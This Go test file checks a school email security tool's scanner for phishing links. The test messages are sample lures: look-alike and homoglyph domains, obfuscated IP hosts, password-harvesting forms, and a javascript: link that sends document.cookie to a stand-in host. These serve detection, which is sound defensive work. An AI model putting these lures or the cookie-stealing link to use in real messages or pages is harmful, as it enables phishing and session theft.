package links

import (
	"encoding/base64"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lychgate/lychgate/scanners"
	"github.com/lychgate/lychgate/scanners/scannertest"
	"github.com/miekg/dns"
)

// htmlMail is a message whose only part is the given HTML.
func htmlMail(body string) []byte {
	return []byte("From: sender@example.com\r\nTo: office@school.example\r\nSubject: notice\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body>" + body + "</body></html>\r\n")
}

// textMail is a plain-text message.
func textMail(body string) []byte {
	return []byte("From: sender@example.com\r\nTo: office@school.example\r\nSubject: notice\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n")
}

func newScanner(t testing.TB, opts Options) *Scanner {
	t.Helper()
	if opts.SchoolDomains == nil {
		opts.SchoolDomains = []string{"stmarys.kent.sch.uk"}
	}
	s, err := New(opts)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// found maps rule to the highest severity reported for it.
func found(fs []scanners.Finding) map[string]scanners.Severity {
	out := map[string]scanners.Severity{}
	for _, f := range fs {
		if sev, ok := out[f.Rule]; !ok || f.Severity > sev {
			out[f.Rule] = f.Severity
		}
	}
	return out
}

func TestLinkRules(t *testing.T) {
	t.Parallel()
	s := newScanner(t, Options{})
	type want map[string]scanners.Severity
	tests := []struct {
		name  string
		raw   []byte
		want  want     // rule -> minimum severity
		avoid []string // rules that must not fire
	}{
		{"text shows a protected domain, link goes elsewhere",
			htmlMail(`<a href="http://account-check.example/login">https://www.paypal.com/signin</a>`),
			want{"link_text_mismatch": scanners.High}, nil},
		{"text shows another domain",
			htmlMail(`<a href="http://collector.example/">www.bank-of-nowhere.co.uk</a>`),
			want{"link_text_mismatch": scanners.Medium}, nil},
		{"ordinary link text", htmlMail(`<a href="http://collector.example/">Click here</a>`),
			nil, []string{"link_text_mismatch"}},
		{"a site name in a sentence is not a shown link", htmlMail(`<a href="http://clicks.example/">Read the story at News.com today</a>`),
			nil, []string{"link_text_mismatch"}},
		{"same registered domain", htmlMail(`<a href="https://mail.school-news.example/a">www.school-news.example</a>`),
			nil, []string{"link_text_mismatch"}},
		{"click tracker naming the shown site", htmlMail(`<a href="http://track.example/go?dest=https%3A%2F%2Fwww.shop.example%2Fsale">www.shop.example</a>`),
			nil, []string{"link_text_mismatch"}},
		{"raw IP host", htmlMail(`<a href="http://198.51.100.7/login.php">Sign in</a>`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"decimal IP host", textMail(`go to http://134744072/verify now`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"hex IP host", htmlMail(`<a href="http://0x08.0x08.0x08.0x08/">x</a>`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"private address in text is no link", textMail(`the printer is at 192.168.1.20 on the staff network`),
			nil, []string{"link_ip_host"}},
		{"user info that looks like a domain", htmlMail(`<a href="https://paypal.com@198.51.100.7/">PayPal</a>`),
			want{"link_userinfo": scanners.High, "link_ip_host": scanners.Medium}, nil},
		{"safe links unwrapped", htmlMail(`<a href="https://eur01.safelinks.protection.outlook.com/?url=http%3A%2F%2F203.0.113.9%2Flogin&amp;data=04%7C01&amp;reserved=0">Open</a>`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"urldefense v2 unwrapped", htmlMail(`<a href="https://urldefense.proofpoint.com/v2/url?u=http-3A__paypa1.com_login&amp;d=DwMF&amp;c=x">log in</a>`),
			want{"link_lookalike": scanners.High}, nil},
		{"urldefense v3 unwrapped", textMail(`https://urldefense.com/v3/__https://micros0ft.com/reset__;!!Abc123$`),
			want{"link_lookalike": scanners.High}, nil},
		{"google redirect unwrapped", textMail(`https://www.google.com/url?q=https://prizes.example.tk/claim&sa=D`),
			want{"link_suspicious_tld": scanners.Low}, nil},
		{"confusable Cyrillic letter", htmlMail("<a href=\"https://p\u0430ypal.com/\">PayPal</a>"),
			want{"link_lookalike": scanners.High, "link_mixed_script": scanners.High}, nil},
		{"punycode of a confusable", textMail(`https://xn--pypal-4ve.com/account`),
			want{"link_lookalike": scanners.High}, nil},
		{"whole-script Cyrillic look-alike", htmlMail("<a href=\"https://\u0430\u0440\u0440\u04cf\u0435.com/\">Apple</a>"),
			want{"link_lookalike": scanners.High}, nil},
		{"digits for letters", textMail(`https://g00gle.com/security`),
			want{"link_lookalike": scanners.High}, nil},
		{"rn for m", textMail(`https://rnicrosoft.com/`),
			want{"link_lookalike": scanners.High}, nil},
		{"one-letter typo", textMail(`https://micosoft.com/login`),
			want{"link_lookalike": scanners.Medium}, nil},
		{"school domain look-alike", textMail(`https://strnarys.kent.sch.uk/parents`),
			want{"link_lookalike": scanners.High}, nil},
		{"school domain itself", textMail(`https://www.stmarys.kent.sch.uk/parents`),
			nil, []string{"link_lookalike", "link_brand_in_host"}},
		{"protected domain in another host", textMail(`https://paypal.com.account-review.example/`),
			want{"link_brand_in_host": scanners.Medium}, nil},
		{"gov.uk in another host", textMail(`https://gov.uk.tax-refund.example/claim`),
			want{"link_brand_in_host": scanners.Medium}, nil},
		{"govuk in another host", textMail(`https://govuk-refund.example/claim`),
			want{"link_brand_in_host": scanners.Medium}, nil},
		{"real gov.uk", textMail(`https://www.gov.uk/school-term-holiday-dates`),
			nil, []string{"link_brand_in_host", "link_lookalike"}},
		{"genuine microsoft", htmlMail(`<a href="https://login.microsoftonline.com/">https://login.microsoftonline.com/</a>`),
			nil, []string{"link_lookalike", "link_text_mismatch", "link_brand_in_host"}},
		{"a brand under another suffix is not an imitation", textMail(`https://www.google.com.au/maps`),
			nil, []string{"link_lookalike", "link_brand_in_host"}},
		{"internationalised domain", textMail("https://b\u00fccher.example/"),
			want{"link_punycode": scanners.Low}, []string{"link_lookalike", "link_mixed_script"}},
		{"shortener", textMail(`see https://bit.ly/3abcDEF`),
			want{"link_shortener": scanners.Low}, nil},
		{"javascript link", htmlMail(`<a href="javascript:location='http://x.example/'+document.cookie">view</a>`),
			want{"link_script_url": scanners.Medium}, nil},
		{"data html link", htmlMail(`<a href="data:text/html;base64,PGgxPkxvZ2luPC9oMT4=">open document</a>`),
			want{"link_data_url": scanners.High}, nil},
		{"inline image is fine", htmlMail(`<img src="data:image/png;base64,iVBORw0KGgo=">`),
			nil, []string{"link_data_url"}},
		{"meta refresh to an IP", htmlMail(`<meta http-equiv="refresh" content="0; url=http://203.0.113.50/">`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"css url to an IP", htmlMail(`<div style="background:url('http://203.0.113.51/bg.png')">x</div>`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"srcset to an IP", htmlMail(`<img srcset="http://203.0.113.52/a.png 1x, http://203.0.113.52/b.png 2x">`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"form asking for a password", htmlMail(`<form action="https://collect.example/p" method="post">Email <input name="e"> Password <input type="password" name="p"><input type="submit"></form>`),
			want{"link_password_form": scanners.High}, nil},
		{"form without a password", htmlMail(`<form action="https://survey.example/"><input name="q"></form>`),
			nil, []string{"link_password_form"}},
		{"entities in an href", htmlMail(`<a href="http&#58;//198.51.100.8/&#108;ogin">x</a>`),
			want{"link_ip_host": scanners.Medium}, nil},
		{"percent-encoded host", htmlMail(`<a href="http://%70aypa1.com/">x</a>`),
			want{"link_lookalike": scanners.High}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			m := parse(tc.raw)
			fs, err := s.Scan(t.Context(), m, &scanners.Envelope{})
			if err != nil {
				t.Fatalf("Scan = %v", err)
			}
			got := found(fs)
			for rule, sev := range tc.want {
				if g, ok := got[rule]; !ok || g < sev {
					t.Errorf("findings = %v, want %s at %v or more (urls %+v)", got, rule, sev, m.URLs)
				}
			}
			for _, rule := range tc.avoid {
				if _, ok := got[rule]; ok {
					t.Errorf("findings = %v, want no %s (%+v)", got, rule, fs)
				}
			}
			for _, f := range fs {
				scannertest.CheckFinding(t, m, f)
				if f.Category != scanners.Link || len(f.Evidence) == 0 {
					t.Errorf("finding %+v: want category link with evidence", f)
				}
			}
		})
	}
}

// attachmentMail is a message with one base64 attachment.
func attachmentMail(filename, ctype string, data []byte) []byte {
	return []byte("From: a@example.com\r\nTo: b@school.example\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n" +
		"--b\r\nContent-Type: " + ctype + "\r\nContent-Disposition: attachment; filename=\"" + filename + "\"\r\n" +
		"Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(data) + "\r\n--b--\r\n")
}

func TestLinksInAttachments(t *testing.T) {
	t.Parallel()
	s := newScanner(t, Options{})
	tests := []struct {
		name, file, ctype string
		data              []byte
		want, avoid       string
	}{
		{"pdf link action", "statement.pdf", "application/pdf",
			[]byte("%PDF-1.4\n1 0 obj << /Type /Annot /A << /S /URI /URI (https://micros0ft.com/verify) >> >> endobj\n%%EOF\n"), "link_lookalike", ""},
		{"html attachment link", "invoice.html", "text/html",
			[]byte(`<a href="http://203.0.113.60/pay">https://www.parentpay.com/</a>`), "link_text_mismatch", ""},
		{"password form in an attachment is the attachment scanner's", "login.html", "text/html",
			[]byte(`<form action="https://x.example/"><input type="password"></form>`), "", "link_password_form"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			m := parse(attachmentMail(tc.file, tc.ctype, tc.data))
			fs, err := s.Scan(t.Context(), m, &scanners.Envelope{})
			if err != nil {
				t.Fatal(err)
			}
			got := found(fs)
			if _, ok := got[tc.want]; tc.want != "" && !ok {
				t.Errorf("findings = %v, want %s (urls %+v)", got, tc.want, m.URLs)
			}
			if _, ok := got[tc.avoid]; tc.avoid != "" && ok {
				t.Errorf("findings = %v, want no %s", got, tc.avoid)
			}
		})
	}
}

func TestBlockAndAllowLists(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	block := filepath.Join(dir, "block.txt")
	allow := filepath.Join(dir, "allow.txt")
	if err := os.WriteFile(block, []byte("# known bad\nbad-site.example\n*.worse.example\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(allow, []byte("198.51.100.77\nbit.ly\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := newScanner(t, Options{BlockFiles: []string{block}, AllowFiles: []string{allow}})
	tests := []struct {
		name  string
		raw   []byte
		want  string
		avoid string
	}{
		{"blocked domain", textMail("https://bad-site.example/x"), "link_blocklist", ""},
		{"blocked subdomain", textMail("https://a.b.worse.example/x"), "link_blocklist", ""},
		{"allowed IP", htmlMail(`<a href="http://198.51.100.77/">intranet</a>`), "", "link_ip_host"},
		{"allowed shortener", textMail("https://bit.ly/abc"), "", "link_shortener"},
		{"unlisted", textMail("https://fine.example/"), "", "link_blocklist"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			fs, err := s.Scan(t.Context(), parse(tc.raw), &scanners.Envelope{})
			if err != nil {
				t.Fatal(err)
			}
			got := found(fs)
			if _, ok := got[tc.want]; tc.want != "" && !ok {
				t.Errorf("findings = %v, want %s", got, tc.want)
			}
			if _, ok := got[tc.avoid]; tc.avoid != "" && ok {
				t.Errorf("findings = %v, want no %s", got, tc.avoid)
			}
		})
	}
	if _, err := New(Options{BlockFiles: []string{filepath.Join(dir, "missing.txt")}}); err == nil {
		t.Errorf("New with a missing block list = nil error")
	}
}

// dnsServer runs a DNS blocklist zone on loopback UDP: names in listed
// answer with their code, "refused.<zone>" with 127.255.255.254, anything
// else NXDOMAIN.
func dnsServer(t *testing.T, zone string, listed map[string]string) string {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	mux := dns.NewServeMux()
	mux.HandleFunc(zone+".", func(w dns.ResponseWriter, r *dns.Msg) {
		resp := new(dns.Msg)
		resp.SetReply(r)
		q := r.Question[0]
		name := strings.TrimSuffix(strings.ToLower(q.Name), "."+zone+".")
		code, ok := listed[name]
		if strings.HasPrefix(name, "refused") {
			code, ok = "127.255.255.254", true
		}
		switch {
		case ok && q.Qtype == dns.TypeA:
			resp.Answer = append(resp.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(code)})
		case ok:
			// listed, but no AAAA record
		default:
			resp.Rcode = dns.RcodeNameError
		}
		_ = w.WriteMsg(resp) // a lost reply is a test failure elsewhere
	})
	srv := &dns.Server{PacketConn: pc, Handler: mux}
	started := make(chan struct{})
	srv.NotifyStartedFunc = func() { close(started) }
	go func() { _ = srv.ActivateAndServe() }()
	<-started
	t.Cleanup(func() { _ = srv.Shutdown() })
	return pc.LocalAddr().String()
}

func TestDNSBlocklist(t *testing.T) {
	t.Parallel()
	addr := dnsServer(t, "dbl.test", map[string]string{
		"phish.example": "127.0.1.4",
		"7.113.0.203":   "127.0.0.2",
	})
	s := newScanner(t, Options{DNSZones: []string{"dbl.test"}, Resolver: addr, DNSTimeout: 2 * time.Second})
	tests := []struct {
		name  string
		raw   []byte
		want  string
		avoid string
	}{
		{"listed domain", textMail("login at https://www.phish.example/verify"), "link_dnsbl", ""},
		{"listed IP", htmlMail(`<a href="http://203.0.113.7/">x</a>`), "link_dnsbl", ""},
		{"unlisted domain", textMail("see https://clean.example/"), "", "link_dnsbl"},
		{"refused query", textMail("see https://refused.example/"), "link_dnsbl_unavailable", "link_dnsbl"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			m := parse(tc.raw)
			fs, err := s.Scan(t.Context(), m, &scanners.Envelope{})
			if err != nil {
				t.Fatal(err)
			}
			got := found(fs)
			if _, ok := got[tc.want]; tc.want != "" && !ok {
				t.Errorf("findings = %v, want %s", got, tc.want)
			}
			if _, ok := got[tc.avoid]; tc.avoid != "" && ok {
				t.Errorf("findings = %v, want no %s", got, tc.avoid)
			}
			for _, f := range fs {
				scannertest.CheckFinding(t, m, f)
			}
		})
	}

	// A resolver that does not answer: an info finding, not a silent pass
	// and not a scanner error.
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = pc.Close() })
	dead := newScanner(t, Options{DNSZones: []string{"dbl.test"}, Resolver: pc.LocalAddr().String(), DNSTimeout: 200 * time.Millisecond})
	fs, err := dead.Scan(t.Context(), parse(textMail("https://somewhere.example/")), &scanners.Envelope{})
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := found(fs)["link_dnsbl_unavailable"]; !ok {
		t.Errorf("findings with a dead resolver = %v, want link_dnsbl_unavailable", found(fs))
	}
}

func TestNewErrors(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		opts Options
	}{
		{"zone without resolver", Options{DNSZones: []string{"dbl.test"}}},
		{"bad zone", Options{DNSZones: []string{"nodot"}, Resolver: "127.0.0.1:53"}},
		{"bad protected domain", Options{Protected: []string{"localhost"}}},
	}
	for _, tc := range tests {
		if _, err := New(tc.opts); err == nil {
			t.Errorf("New(%s) = nil error", tc.name)
		}
	}
}

func TestConformance(t *testing.T) {
	t.Parallel()
	scannertest.Conformance(t, newScanner(t, Options{}), &scanners.Envelope{},
		htmlMail("<a href=\"http://account-check.example/login\">https://www.paypal.com/signin</a> <a href=\"https://p\u0430ypal.com/\">x</a>"),
		textMail(`https://paypal.com@198.51.100.7/ and https://bit.ly/x`),
	)
}

func TestParseLooseIPv4(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"8.8.8.8", "8.8.8.8"},
		{"134744072", "8.8.8.8"},
		{"0x08080808", "8.8.8.8"},
		{"010.010.010.010", "8.8.8.8"},
		{"8.526344", "8.8.8.8"},
		{"example.com", ""},
		{"1.2.3.4.5", ""},
		{"256.1.1.1", ""},
		{"2019", ""},
	}
	for _, tc := range tests {
		got := ""
		if ip := parseLooseIPv4(tc.in); ip != nil {
			got = ip.String()
		}
		if got != tc.want {
			t.Errorf("parseLooseIPv4(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestSkeleton(t *testing.T) {
	t.Parallel()
	same := [][2]string{{"paypal", "paypa1"}, {"paypal", "p\u0430ypal"}, {"google", "g00gle"}, {"microsoft", "rnicrosoft"}, {"apple", "\u0430\u0440\u0440\u04cf\u0435"}}
	for _, p := range same {
		if skeleton(p[0]) != skeleton(p[1]) {
			t.Errorf("skeleton(%q) = %q, skeleton(%q) = %q, want equal", p[0], skeleton(p[0]), p[1], skeleton(p[1]))
		}
	}
	if skeleton("paypal") == skeleton("paybal") {
		t.Errorf("skeleton(paypal) = skeleton(paybal), want different")
	}
	if !slices.Equal([]bool{oneEdit("microsoft", "micosoft"), oneEdit("google", "gogole"), oneEdit("google", "google"), oneEdit("icloud", "cloud2")},
		[]bool{true, true, false, false}) {
		t.Errorf("oneEdit results unexpected")
	}
}
